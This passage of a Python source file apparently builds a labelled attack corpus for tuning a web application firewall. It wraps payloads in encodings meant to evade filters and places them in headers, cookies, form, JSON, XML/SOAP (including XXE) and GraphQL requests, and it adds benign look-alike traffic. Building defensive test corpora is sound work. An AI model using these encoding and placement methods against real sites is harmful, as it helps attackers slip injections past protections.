    return "".join(f"\\u{ord(c):04x}" for c in p)


def enc_xml_entity(p):
    return "".join(f"&#x{ord(c):x};" for c in p)


ENCODINGS = {
    "plain": enc_plain, "base64": enc_base64, "base64-flat": enc_base64_flat, "url": enc_double_url,
    "js-unicode": enc_js_unicode, "xml-entity": enc_xml_entity,
}

# --------------------------------------------------------------------------------
# Placements: each returns (method, target, headers, body)

COMMON = [("Host", "shop.example"), ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"),
          ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"), ("Accept-Language", "en-US,en;q=0.9")]


def _hdrs(extra=(), ua=None):
    h = [(k, v) for k, v in COMMON if not (ua is not None and k == "User-Agent")]
    if ua is not None:
        h.append(("User-Agent", ua))
    return h + list(extra)


def header_safe(v):
    return "\r" not in v and "\n" not in v and all(32 <= ord(c) < 127 for c in v)


def xml_escape(v):
    return v.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def place(kind, name, v, cls):
    q = urllib.parse.quote
    if kind == "query":
        return "GET", f"/search?{name}={q(v, safe='')}", _hdrs(), b""
    if kind == "path":
        return "GET", f"/api/items/{q(v, safe='')}", _hdrs(), b""
    if kind == "header":
        if not header_safe(v):
            return None
        return "GET", "/account", _hdrs([(f"X-{name.title()}", v)]), b""
    if kind == "user-agent":
        if not header_safe(v):
            return None
        return "GET", "/", _hdrs(ua=v), b""
    if kind == "cookie":
        return "GET", "/profile", _hdrs([("Cookie", f"lang=en; {name}={q(v, safe='')}")]), b""
    if kind == "form":
        body = f"{name}={q(v, safe='')}&submit=Send".encode()
        return "POST", "/comment", _hdrs([("Content-Type", "application/x-www-form-urlencoded")]), body
    if kind == "multipart":
        body = (f"--XBOUND\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{v}\r\n"
                "--XBOUND\r\nContent-Disposition: form-data; name=\"submit\"\r\n\r\nSend\r\n--XBOUND--\r\n").encode()
        return "POST", "/upload", _hdrs([("Content-Type", "multipart/form-data; boundary=XBOUND")]), body
    if kind == "json":
        return "POST", "/api/v1/query", _hdrs([("Content-Type", "application/json")]), json.dumps({name: v}).encode()
    if kind == "json-nested":
        doc = {"data": {"type": "item", "attributes": {"tags": ["a"], name: v}}}
        return "PUT", "/api/v1/items/7", _hdrs([("Content-Type", "application/json")]), json.dumps(doc).encode()
    if kind == "xml":
        if cls == "xxe":
            body = v
        else:
            body = f"<?xml version=\"1.0\"?><request><{name}>{xml_escape(v)}</{name}></request>"
        return "POST", "/api/xml", _hdrs([("Content-Type", "application/xml")]), body.encode()
    if kind == "soap":
        inner = v if cls == "xxe" else xml_escape(v)
        body = ("<?xml version=\"1.0\"?><soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\">"
                f"<soap:Body><GetItem><{name}>{inner}</{name}></GetItem></soap:Body></soap:Envelope>")
        if cls == "xxe":
            body = v
        return "POST", "/soap", _hdrs([("Content-Type", "text/xml; charset=utf-8"), ("SOAPAction", "GetItem")]), body.encode()
    if kind == "graphql":
        gql = "query { search(" + name + ": " + json.dumps(v) + ") { id title } }"
        return "POST", "/graphql", _hdrs([("Content-Type", "application/json")]), json.dumps({"query": gql}).encode()
    if kind == "raw-body":
        return "POST", "/api/raw", _hdrs([("Content-Type", "text/plain")]), v.encode()
    raise ValueError(kind)


PLACEMENTS = ["query", "path", "header", "user-agent", "cookie", "form", "multipart", "json", "json-nested",
              "xml", "soap", "graphql", "raw-body"]

NAMES = ["q", "id", "search", "name", "comment", "file", "url", "page", "data", "input", "user", "redirect"]


def attacks(seed=1, per_class=8):
    """Every (class, encoding, placement) combination, `per_class` payloads each;
    yields dicts with the label and the request."""
    r = random.Random(seed)
    for cls, gen in CLASSES.items():
        for enc_name, enc in ENCODINGS.items():
            for kind in PLACEMENTS:
                for _ in range(per_class):
                    payload = gen(r)
                    if cls == "xxe" and kind in ("xml", "soap") and enc_name != "plain":
                        continue  # the document is the body: there is nothing to encode it into
                    v = enc(payload)
                    req = place(kind, r.choice(NAMES), v, cls)
                    if req is None:
                        continue
                    yield {"label": "attack", "class": cls, "encoding": enc_name, "placement": kind, "request": req,
                           "payload": payload}


# --------------------------------------------------------------------------------
# Benign traffic

PROSE = {
    "en": [
        "I would like to select a union representative for our team next week.",
        "Sleep(8 hours) is what my doctor recommends, or at least seven.",
        "zsh is the best! Bash is fine too, and fish is fun.",
        "Please update the order by Friday; the client is waiting.",
        "My name is O'Brien and I live at 12 Main St, apt. 3.",
        "Can you drop the table from the living room into the car?",
        "The cat sat on the mat and then ran | jumped & hid.",
        "We had fish & chips, then a walk; it was lovely.",
        "Where is the nearest exec lounge at the airport?",
        "Echo chamber effects are real, says the study (2023).",
        "Is 1 = 1? Philosophers have argued about identity for ages.",
        "Set the date for the meeting, then type a short note.",
        "The union was a great select committee in 1910.",
        "Contact john+or@var.es or mary-and@example.org for details.",
        "She said: 'or else', and left the room.",
        "Run, don't walk, to the sale at the mall!",
    ],
    "de": [
        "Ich möchte gerne einen Tisch für zwei Personen um 19 Uhr reservieren.",
        "Die Lieferung kam gestern; alles war in Ordnung & gut verpackt.",
        "Können Sie mir bitte die Rechnung per E-Mail schicken?",
    ],
    "fr": [
        "Bonjour, je voudrais savoir si la commande n°1234 est partie.",
        "C'est l'été ; on va à la plage ou à la montagne ?",
        "L'hôtel était « magnifique » et le personnel très aimable.",
    ],
    "es": [
        "¿Dónde está la estación de tren más cercana, por favor?",
        "Me encanta el café con leche y un poco de azúcar.",
    ],
    "ru": ["Здравствуйте! Подскажите, пожалуйста, как оформить возврат?", "Спасибо за быструю доставку."],
    "zh": ["请问这个产品有其他颜色吗？", "谢谢你的帮助，祝你有美好的一天。"],
    "ja": ["この商品はいつ発送されますか？", "ご返信ありがとうございます。"],
}

CODE_POSTS = [
    ("shell", "To see which process holds the port, run:\n\n```\nsudo lsof -i :8080 | grep LISTEN\n```\n\nThen kill it with `kill -9 <pid>` if you must."),
    ("shell", "My backup script:\n```bash\n#!/bin/bash\nfor f in *.log; do\n  gzip \"$f\" && mv \"$f.gz\" /backup/\ndone\n```\nIt works, but is there a faster way?"),
    ("powershell", "In PowerShell you can do:\n```\nGet-ChildItem -Path C:\\Logs -Filter *.txt | Where-Object { $_.Length -gt 1MB }\n```\nand pipe it to Remove-Item."),
    ("rust", "Here is my Rust code:\n```rust\nfn main() {\n    let v: Vec<u32> = (1..10).filter(|x| x % 2 == 0).collect();\n    println!(\"{:?}\", v);\n}\n```\nWhy does the borrow checker complain when I push?"),
    ("js", "In JavaScript:\n```js\nconst total = items.reduce((a, b) => a + b.price, 0);\ndocument.getElementById('sum').textContent = `${total}`;\n```\nIs reduce slower than a for loop?"),
    ("python", "I wrote:\n```python\nimport os\nfor root, dirs, files in os.walk('.'):\n    print(len(files))\n```\nbut it is slow on a network drive."),
    ("nginx", "My nginx config:\n```\nlocation /api/ {\n    proxy_pass http://backend;\n    proxy_set_header Host $host;\n    limit_req zone=one burst=5;\n}\n```\nreturns 502 sometimes."),
    ("sql", "For the report I use:\n```sql\nSELECT name, COUNT(*) FROM orders GROUP BY name ORDER BY 2 DESC;\n```\nCan I add a HAVING clause for counts over 10?"),
    ("html", "To center a div I use `display: flex; justify-content: center;` on the parent. Works in every browser now."),
    ("yaml", "The compose file:\n```yaml\nservices:\n  web:\n    image: nginx:1.25\n    ports: [\"8080:80\"]\n```\nstarts, but the volume is empty."),
]

MARKDOWN = [
    "# Release notes\n\n* Fixed a crash when the list was empty\n* Faster search (2x)\n\n> Thanks to all contributors!",
    "## Steps\n1. Open the settings\n2. Choose *Privacy*\n3. Press **Save**\n\n[Help](https://example.com/help)",
]

API_USERS = ["alice", "bob", "carol", "dave", "erin", "frank"]


def benign(seed=2, count=600):
    from benign import benign as _benign  # noqa: E402  (imported here: benign.py imports this module)
    return _benign(seed, count)


def jwt_like(r):
    def seg(obj):
        return base64.urlsafe_b64encode(json.dumps(obj).encode()).decode().rstrip("=")
    return seg({"alg": "HS256", "typ": "JWT"}) + "." + seg({"sub": str(r.randint(1, 10**6)), "name": "Jane Doe", "iat": 1700000000}) + \
        "." + base64.urlsafe_b64encode(bytes(r.randrange(256) for _ in range(32))).decode().rstrip("=")


def to_bytes(req):
    """The raw HTTP/1.1 request."""
    method, target, headers, body = req
    lines = [f"{method} {target} HTTP/1.1"]
    for k, v in headers:
        lines.append(f"{k}: {v}")
    if body or method in ("POST", "PUT", "PATCH"):
        lines.append(f"Content-Length: {len(body)}")
    lines.append("Connection: close")
    head = ("\r\n".join(lines) + "\r\n\r\n").encode("utf-8")
    return head + body


def attack_line(item, n):
    """Attack `n` as a line of `palisade tune --attacks`: method, uri, headers as
    [name, value] pairs (with the Content-Length to_bytes sends), the body in base64,
    and a label naming class, encoding, placement and number."""
    method, target, headers, body = item["request"]
    headers = list(headers)
    if body or method in ("POST", "PUT", "PATCH"):
        headers.append(("Content-Length", str(len(body))))
    return json.dumps({
        "label": f"{item['class']} {item['encoding']} {item['placement']} #{n}",
        "method": method,
        "uri": target,
        "headers": [[k, v] for k, v in headers],
        "body_base64": base64.b64encode(body).decode(),
    })


def main():
    import argparse
    ap = argparse.ArgumentParser(description="The project's attack corpus, from a seed.")
    ap.add_argument("--emit-attacks", metavar="FILE", required=True,
                    help="write the attacks as JSON lines for `palisade tune --attacks FILE`")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--per-class", type=int, default=1, help="payloads per class, encoding and placement")
    args = ap.parse_args()
    n = 0
    with open(args.emit_attacks, "w") as f:
        for item in attacks(args.seed, args.per_class):
            f.write(attack_line(item, n) + "\n")
            n += 1
    print(f"{n} attack(s) written to {args.emit_attacks}")


if __name__ == "__main__":
    main()
